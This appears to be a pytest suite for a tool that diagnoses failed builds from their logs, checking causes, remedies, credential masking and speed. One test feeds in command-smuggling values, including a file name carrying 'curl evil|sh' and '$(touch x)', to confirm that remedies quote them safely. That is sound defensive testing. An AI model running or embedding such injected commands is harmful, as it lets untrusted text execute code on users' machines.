"""What broke a build, by its log: each rule on an excerpt of its own, and logs whose last error misleads."""

from __future__ import annotations

import re
import shlex
import time
from pathlib import Path

import pytest

from devkit.builds.diagnosis import Cause, diagnose, rules
from devkit.builds.mend import REMEDIES

LOGS = Path(__file__).parent / "logs"


def log(name: str) -> str:
    return (LOGS / f"{name}.log").read_text("utf-8")


def first(name: str) -> Cause:
    return diagnose(log(name)).causes[0]


@pytest.mark.parametrize("rule", rules(), ids=lambda rule: rule.id)
def test_every_rule_finds_its_cause_first_in_its_own_excerpt(rule: object) -> None:
    found = diagnose(log(rule.id))  # type: ignore[attr-defined]  # pytest's ids hide the type
    assert found.failed
    assert [each.id for each in found.causes] == [rule.id]  # type: ignore[attr-defined]
    (cause,) = found.causes
    assert cause.text == log(cause.id).splitlines()[cause.line - 1].strip()
    assert not re.search(r"[{}<>]", cause.cause)
    assert "{" not in cause.remedy
    assert cause.reference.startswith("https://")


def test_the_table_is_whole() -> None:
    ids = [rule.id for rule in rules()]
    assert len(ids) == len(set(ids)) > 20
    assert {each for rule in rules() for each in rule.explains} <= set(ids) | {""}
    assert {rule.fix for rule in rules()} == {"", *REMEDIES}
    assert {path.stem for path in LOGS.glob("[!_]*.log")} == set(ids)


def test_a_clean_log_has_no_causes_though_it_tried_twice() -> None:
    found = diagnose(log("_clean"))
    assert (found.failed, found.causes, found.first_error) == (False, (), None)


def test_the_owner_of_a_folder_is_the_cause_and_the_network_only_its_consequence() -> None:
    found = diagnose(log("_misleading"))
    assert [each.id for each in found.causes] == ["dubious-ownership"]
    assert found.causes[0].line == 2
    assert found.causes[0].consequences == (5, 7)
    assert found.causes[0].remedy == "git config --global --add safe.directory /paddle/third_party/glog"


def test_the_first_of_two_causes_comes_first_whatever_the_table_says() -> None:
    both = log("compile-error") + log("out-of-memory")
    assert [each.id for each in diagnose(both).causes] == ["compile-error", "out-of-memory"]
    assert [each.id for each in diagnose(log("out-of-memory") + log("compile-error")).causes] == ["out-of-memory"]


def test_what_no_rule_knows_shows_its_first_error() -> None:
    found = diagnose(log("_unknown"))
    assert found.failed
    assert found.causes == ()
    assert found.first_error == (2, "FAILED: paddle/phi/ops.cc")


def test_colours_and_carriage_returns_do_not_hide_a_cause() -> None:
    painted = (
        "\x1b[31mCMake Error\x1b[0m at x:1 (message):\r\n  \x1b[1mpatchelf\x1b[0m not found, please install it.\r\n"
    )
    assert [(each.id, each.line) for each in diagnose(painted).causes] == [("patchelf", 2)]


def test_words_of_the_log_stand_in_cause_and_remedy() -> None:
    assert first("compile-error").remedy == "$EDITOR /paddle/paddle/common/errors.cc:31"
    assert "'no_such_name' was not declared" in first("compile-error").cause
    assert first("submodule-empty").cause.startswith("the submodule of gflags is empty")
    assert first("python-requirement").cause.endswith("in Python: numpy")
    assert first("host-compiler").remedy.startswith("CC=gcc-11 CXX=g++-11")


@pytest.mark.parametrize(
    "said", ["file not recognized: file format not recognized", "file too short", "file truncated"]
)
def test_half_an_object_is_known_by_whatever_the_linker_calls_it(said: str) -> None:
    text = f"/usr/bin/ld: error: paddle/phi/core/a.cc.o: {said}\ncollect2: error: ld returned 1 exit status\n"
    (cause,) = diagnose(text).causes
    assert (cause.id, cause.words) == ("truncated-object", {"path": "paddle/phi/core/a.cc.o"})


def test_credentials_of_a_log_are_masked() -> None:
    said = "fatal: unable to access 'https://me:geheim@git.example/x.git/': Could not resolve host\n"
    (cause,) = diagnose(said).causes
    assert "geheim" not in repr(cause)
    assert "***@git.example" in cause.text


def test_a_long_log_is_read_in_little_time() -> None:
    line = "[1/9] Building CXX object paddle/phi/kernels/CMakeFiles/phi.dir/cpu/abs_kernel.cc.o\n"
    begin = time.process_time()
    found = diagnose(line * 50_000 + log("out-of-memory"))
    assert [each.line for each in found.causes] == [50_004]
    assert time.process_time() - begin < 3


@pytest.mark.parametrize(
    "log",
    [
        "Killed\n",
        "RuntimeError: Missing build dependency: networkx\n",
        "/usr/bin/ld: cannot find -lcudart\n",
        "OSError: libnvinfer.so.8: file too short\n",
        "make: *** [all] 错误 2\n",
    ],
)
def test_a_log_of_nothing_but_errors_is_never_of_a_build_that_did_not_fail(log: str) -> None:
    assert diagnose(log).failed


def test_a_library_of_the_system_is_never_to_be_removed() -> None:
    for path in ("/usr/lib/x86_64-linux-gnu/libnvinfer.so.8", "libnvinfer.so.8"):
        (cause,) = diagnose(f"OSError: {path}: file too short\n").causes
        assert cause.remedy.startswith(f"ls -lL {path}   ")
        assert cause.fix == ""


def test_words_of_a_log_are_one_word_of_the_line_to_type() -> None:
    name = "a;curl evil|sh #.o"
    (cause,) = diagnose(f"/usr/bin/ld: error: '{name}'.cc:1:2: error: $(touch x)\n/x/`id`.cc:3: error: no\n").causes
    assert shlex.split(cause.remedy.partition("   ")[0]) == ["$EDITOR", cause.words["place"]]
    said = "fatal: detected dubious ownership in repository at '/w/$(touch x) y;z'\n"
    (cause,) = diagnose(said).causes
    assert shlex.split(cause.remedy)[-1] == "/w/$(touch x) y;z"
